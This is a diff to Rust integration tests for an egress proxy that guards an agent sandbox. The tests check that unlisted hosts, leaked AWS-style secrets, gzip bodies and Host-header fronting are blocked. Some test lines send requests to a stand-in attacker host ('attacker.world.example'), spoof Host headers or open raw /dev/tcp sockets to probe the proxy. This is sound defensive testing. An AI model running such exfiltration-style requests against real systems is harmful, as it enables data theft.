@@ -14,20 +14,20 @@ const FILES: &str = "https://files.world.example/public/hello";
 const PLAIN: &str = "http://files.world.example/public/hello";
 
 /// Status and body of what curl asks for.
-fn curl(bottle: &Bottle, arguments: &[&str]) -> (String, String) {
+fn curl(bottle: &Bottle<'_>, arguments: &[&str]) -> (String, String) {
     let asked = bottle.exec(&[&["curl", "-sS", "-w", "\n%{http_code}"], arguments].concat());
     let (body, status) = asked.stdout.rsplit_once('\n').unwrap_or_else(|| panic!("{asked:?}"));
     (status.to_owned(), body.to_owned())
 }
 
 /// Writes bytes to the agent's pipelock and gives all that comes back.
-fn raw(bottle: &Bottle, bytes: &str) -> String {
+fn raw(bottle: &Bottle<'_>, bytes: &str) -> String {
     let script = "exec 3<>/dev/tcp/pipelock/8888 && printf %b \"$1\" >&3 && timeout 20 cat <&3";
     let Output { stdout, .. } = bottle.exec(&["bash", "-c", script, "bash", bytes]);
     stdout
 }
 
-fn refusals(bottle: &Bottle, role: &str) -> Vec<(Option<String>, String, String)> {
+fn refusals(bottle: &Bottle<'_>, role: &str) -> Vec<(Option<String>, String, String)> {
     let lines = bottle.logs().into_iter().filter(|line| line.role == role);
     lines
         .filter_map(|line| match LogEvent::parse(&line.line) {
@@ -57,7 +57,7 @@ fn a_bottles_pipelocks_keep_their_contract() {
     site.assert_nothing_left();
 }
 
-fn hosts_that_are_not_listed_are_refused_in_pipelocks_own_words(bottle: &Bottle) {
+fn hosts_that_are_not_listed_are_refused_in_pipelocks_own_words(bottle: &Bottle<'_>) {
     assert_eq!(curl(bottle, &[FILES]).0, "200");
     assert_eq!(curl(bottle, &[PLAIN]).0, "200");
     for host in ["attacker.world.example", "api.world.example"] {
@@ -73,7 +73,7 @@ fn hosts_that_are_not_listed_are_refused_in_pipelocks_own_words(bottle: &Bottle)
     }
 }
 
-fn secrets_do_not_leave(bottle: &Bottle) {
+fn secrets_do_not_leave(bottle: &Bottle<'_>) {
     let header = "blocked: request header contains secret\n";
     let body = "blocked: request body contains secret: AWS Access ID\n";
     let named = |name: &str| format!("{name}: {KEY}");
@@ -99,7 +99,7 @@ fn secrets_do_not_leave(bottle: &Bottle) {
     );
 }
 
-fn what_cannot_be_looked_into_does_not_leave(bottle: &Bottle) {
+fn what_cannot_be_looked_into_does_not_leave(bottle: &Bottle<'_>) {
     let gzip =
         "blocked: request body uses Content-Encoding \"gzip\"; compressed bodies cannot be scanned for secrets\n";
     for url in [FILES, PLAIN] {
@@ -110,13 +110,13 @@ fn what_cannot_be_looked_into_does_not_leave(bottle: &Bottle) {
     }
 }
 
-fn a_tunnel_is_for_its_host(bottle: &Bottle) {
+fn a_tunnel_is_for_its_host(bottle: &Bottle<'_>) {
     let fronted = curl(bottle, &["-H", "Host: attacker.world.example", FILES]);
     assert_eq!(fronted, ("403".into(), "authority mismatch: blocked\n".into()));
     assert_eq!(curl(bottle, &["-H", "Host: files.world.example", FILES]).0, "200");
 }
 
-fn an_injected_credential_passes_and_another_does_not(bottle: &Bottle, world: &World) {
+fn an_injected_credential_passes_and_another_does_not(bottle: &Bottle<'_>, world: &World<'_>) {
     let route = "http://cred-proxy:9099/api/v1/echo";
     // The world's API knows another one; what matters is that this one came so far.
     assert_eq!(curl(bottle, &[route]).0, "401");
@@ -129,7 +129,7 @@ fn an_injected_credential_passes_and_another_does_not(bottle: &Bottle, world: &W
     assert!(status == "403" && body.contains("request header contains secret"), "{status} {body}");
 }
 
-fn it_is_healthy_and_strict(bottle: &Bottle) {
+fn it_is_healthy_and_strict(bottle: &Bottle<'_>) {
     let (status, health) = curl(bottle, &["--noproxy", "*", "http://pipelock:8888/health"]);
     let health: serde_json::Value = serde_json::from_str(&health).unwrap();
     assert_eq!((status.as_str(), health["mode"].as_str()), ("200", Some("strict")));
@@ -147,7 +147,7 @@ fn it_is_healthy_and_strict(bottle: &Bottle) {
     assert!(agents.1 != routes.1 && agents.1.len() == 64 && routes.1.len() == 64, "{agents:?} {routes:?}");
 }
 
-fn every_refusal_is_told(bottle: &Bottle) {
+fn every_refusal_is_told(bottle: &Bottle<'_>) {
     let long = "curl -sS http://attacker.world.example/$(head -c 65300 /dev/zero | tr '\\0' a)";
     assert_eq!(bottle.sh(long).ok().stdout, "blocked: domain not in allowlist: attacker.world.example\n");
     let told = |host: &str, scanner: &str, reason: &str| {
